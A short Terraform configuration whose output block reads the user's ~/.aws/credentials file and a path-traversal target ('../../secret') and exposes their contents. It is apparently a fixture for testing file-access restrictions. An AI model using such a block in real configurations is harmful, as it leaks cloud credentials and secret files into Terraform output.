output "content" {
  value = [
    file("${pathexpand("~")}/.aws/credentials"),
    file("a${substr(pathexpand("~"), 0, 1)}../../secret"),
  ]
}
